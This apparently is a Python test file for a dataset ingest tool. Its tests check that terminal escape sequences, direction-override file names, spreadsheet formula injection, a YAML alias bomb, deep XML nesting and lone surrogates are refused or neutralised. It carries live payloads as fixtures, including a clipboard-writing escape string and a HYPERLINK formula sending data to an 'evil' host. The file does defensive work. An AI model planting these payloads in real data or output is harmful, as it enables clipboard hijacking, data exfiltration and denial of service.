"""Text an uploader writes never reaches another user's terminal or spreadsheet as control: dataset.yaml text,
archive and member names with control characters or direction overrides are refused (exit 2); what is
printed from data (tables, CSV, JSON) writes such characters out and neutralises spreadsheet formulas
(found by an attack trial: `kdata show` and `kdata sql` printed an uploader's ESC sequences as they were)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from rich.console import Console

from ingest.discover import discover_layout
from ingest.limits import UnsafeArchive
from ingest.safety import check_name
from kdata import render
from schemas.manifest import ManifestError, parse_manifest

ESC = "\x1b[2J\x1b]52;c;cHduZWQ=\x1b\\"  # clear the screen, write the reader's clipboard


def test_dataset_yaml_text_with_terminal_escapes_is_refused(tmp_path: Path) -> None:
    data = {"id": "evil-meta", "title": {"ko": f"제목{ESC}", "en": "Title"}, "keywords": ["a\u202eb"]}
    with pytest.raises(ManifestError) as refused:
        parse_manifest(data, tmp_path / "dataset.yaml")
    message = str(refused.value)
    assert "title.ko" in message and "\\x1b" in message and "keywords[0]" in message and "\\u202e" in message
    assert "\x1b" not in message  # the refusal itself writes them out


def test_archive_and_member_names_with_control_characters_are_refused(tmp_path: Path) -> None:
    assert check_name("a\u202enosj.exe.json", "a\u202enosj.exe.json") is not None  # reads as "aexe.json"
    assert check_name("label\u0085.json", "label\u0085.json") is not None  # a C1 control (NEL)
    assert check_name("라벨/정상.json", "라벨/정상.json") is None
    labels = tmp_path / "ds" / "01.데이터" / "1.Training" / "라벨링데이터"
    labels.mkdir(parents=True)
    with zipfile.ZipFile(labels / "TL_1.\x1b[31mRED.zip", "w") as archive:
        archive.writestr("a.json", "{}")
    with pytest.raises(UnsafeArchive) as refused:
        discover_layout(tmp_path / "ds")
    assert refused.value.code == "unsafe_name" and "\x1b" not in str(refused.value)


def test_printed_data_writes_control_characters_out_and_neutralises_formulas(
    capsys: pytest.CaptureFixture[str],
) -> None:
    columns = ["id", "text"]
    rows = [("A1", f"hello{ESC}"), ("A2", '=HYPERLINK("http://evil/?"&A1,"click")'), ("A3", "-5"), ("A4", "@SUM(1)")]
    terminal = io.StringIO()
    render.render_rows(Console(file=terminal, force_terminal=True, width=200), columns, rows, "table")
    assert "\x1b[2J" not in terminal.getvalue() and "\\x1b[2J" in terminal.getvalue()
    render.render_rows(Console(file=io.StringIO()), columns, rows, "csv")
    cells = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [c[1] for c in cells[1:]] == [
        "hello\\x1b[2J\\x1b]52;c;cHduZWQ=\\x1b\\",
        '\'=HYPERLINK("http://evil/?"&A1,"click")',
        "-5",  # a number stays a number
        "'@SUM(1)",
    ]
    render.render_rows(Console(file=io.StringIO()), columns, [("A5", "x\u202ey\u009bz")], "json")
    printed = capsys.readouterr().out
    assert "\u202e" not in printed and "\u009b" not in printed
    assert json.loads(printed) == [{"id": "A5", "text": "x\u202ey\u009bz"}]  # the same value, escaped


def test_inspect_reads_dataset_yaml_within_the_manifests_bounds(tmp_path: Path) -> None:
    """An alias bomb of a few hundred bytes in ``dataset.yaml`` took ``kdata inspect`` to 4 GB (ingest refused
    it): every reader of the manifest (inspect, ingest, the S3 landing zone) reads it within the same bounds."""
    from kdata.inspect_cmd import run_inspect

    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    (tmp_path / "dataset.yaml").write_text("id: bomb\nlayout:\n  include:\n" + "\n".join(f"  {x}" for x in levels))
    err = Console(file=io.StringIO(), width=300)
    assert run_inspect(tmp_path, write_manifest=False, as_json=False, out=Console(file=io.StringIO()), err=err) == 2
    assert "YAML aliases" in err.file.getvalue()  # type: ignore[attr-defined]


def test_xml_nested_too_deep_is_a_bad_label_not_a_crash() -> None:
    """200,000 nested elements, stored (no compression ratio to catch): inspect and ingest exited 1 with a
    RecursionError; it is the file's ``bad_xml`` problem now."""
    from ingest.mapping.formats import LabelFileError, documents
    from schemas.labels import LabelBlock

    with pytest.raises(LabelFileError) as refused:
        list(documents(b"<a>" * 200_000 + b"</a>" * 200_000, "xml", LabelBlock(format="xml")))
    assert refused.value.code == "bad_xml"


def test_a_lone_surrogate_escape_is_invalid_json_on_every_reading_path() -> None:
    """``"\\ud800\\udfff\\ud800 살아"`` (a pair, then a lone half): orjson refuses it, but the streamed reader
    (Python's json) made it a lone surrogate, and the Korean dialogue ingest exited 1 with a traceback when the
    content hash met it. Every path calls it invalid JSON now; a pair stays text."""
    from ingest.jsonstream import JsonStreamError, ListItems

    def read(text: str) -> list[object]:
        return list(ListItems(io.BytesIO(text.encode()), ("data",)))

    assert read('{"data": [{"u": "\\ud800\\udfff"}]}') == [{"u": "\U000103ff"}]
    with pytest.raises(JsonStreamError, match="lone surrogate"):
        read('{"data": [{"u": "\\ud800\\udfff\\ud800 살아"}]}')
